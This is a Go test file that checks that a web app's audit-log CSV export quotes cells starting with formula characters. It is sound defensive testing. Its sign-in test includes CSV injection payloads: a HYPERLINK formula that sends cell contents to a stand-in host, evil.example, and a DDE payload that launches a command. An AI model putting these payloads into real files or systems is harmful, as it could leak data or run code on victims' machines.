package web_test

// Attack class: CSV formula injection. Text anyone can put into the audit
// log (a typed sign-in address, a user agent, a reason) is exported to CSV
// for staff who open it in a spreadsheet: a field starting with a formula
// character must come out as text.

import (
	"context"
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-dev/gatehouse"
)

// TestAuditCSVDefusesFormulas: a CSV export opened in a spreadsheet must not
// run what a stranger typed. Every text field of an event can start with a
// formula character (a typed address, a user agent, a reset reason), and
// each comes out prefixed with a quote; the same text in JSON is untouched.
func TestAuditCSVDefusesFormulas(t *testing.T) {
	e := newEnv(t)
	ws := e.workspace("acme")
	ctx := context.Background()
	target := &gatehouse.User{Email: "=cmd@example.com", Role: gatehouse.RoleClient, CreatedAt: e.clock.Now(), UpdatedAt: e.clock.Now()}
	if err := e.store.CreateUser(ctx, ws.ID, target); err != nil {
		t.Fatal(err)
	}
	for _, ev := range []gatehouse.AuditEvent{
		{Type: "-2+3", TargetID: target.ID, IP: "+1", Detail: "@SUM(A1)"},
		{Type: "x", IP: "\t=1", Detail: "\r=2"},
		{Type: "y", IP: "127.0.0.1", Detail: "a=1+2"}, // not at the start: left alone
	} {
		ev.At = e.clock.Now()
		if err := e.store.AddAuditEvent(ctx, ws.ID, &ev); err != nil {
			t.Fatal(err)
		}
	}
	b := e.browser()
	b.login("acme", "owner@example.com", goodPassword, "/dashboard")
	res := b.get(wsURL("acme", "/dashboard/audit?format=csv"))
	wantStatus(t, "csv", res, http.StatusOK)
	rows, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][]string{ // by detail as typed: type, target, ip, detail as exported
		"@SUM(A1)": {"'-2+3", "'=cmd@example.com", "'+1", "'@SUM(A1)"},
		"\r=2":     {"x", "system", "'\t=1", "'\r=2"},
		"a=1+2":    {"y", "system", "127.0.0.1", "a=1+2"},
	}
	seen := 0
	for _, row := range rows[1:] {
		for typed, w := range want {
			if strings.TrimPrefix(row[6], "'") != typed {
				continue
			}
			seen++
			if got := []string{row[2], row[4], row[5], row[6]}; !slices.Equal(got, w) {
				t.Errorf("exported %q, want %q", got, w)
			}
		}
	}
	if seen != len(want) {
		t.Fatalf("found %d of the %d events in the export:\n%s", seen, len(want), res.body)
	}
	res = b.get(wsURL("acme", "/dashboard/audit?format=json"))
	if !strings.Contains(res.body, `"detail":"@SUM(A1)"`) || !strings.Contains(res.body, `"target":"=cmd@example.com"`) {
		t.Errorf("the JSON export altered the text:\n%s", res.body)
	}
}

// TestAttackCSVFromTheSignInForm: a stranger types formulas as the address
// on the sign-in form; the audit export the owner downloads holds them as
// text.
func TestAttackCSVFromTheSignInForm(t *testing.T) {
	e := newEnv(t)
	e.workspace("acme")
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "=cmd|' /C calc'!A0"}
	for _, f := range formulas {
		wantStatus(t, "sign-in with "+f, e.browserFrom("127.0.0.5").post(wsURL("acme", "/login"), url.Values{"email": {f}, "password": {"not the password"}}), http.StatusUnauthorized)
		e.clock.Advance(time.Hour) // no throttle in the way
	}
	b := e.browser()
	b.login("acme", "owner@example.com", goodPassword, "/dashboard")
	res := b.get(wsURL("acme", "/dashboard/audit?format=csv"))
	wantStatus(t, "csv", res, http.StatusOK)
	rows, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell starts with a formula character: %q", cell)
			}
		}
		if row[2] == "signin.password.failed" {
			seen++
		}
	}
	if seen != len(formulas) {
		t.Fatalf("%d failed sign-ins in the export, want %d:\n%s", seen, len(formulas), res.body)
	}
}
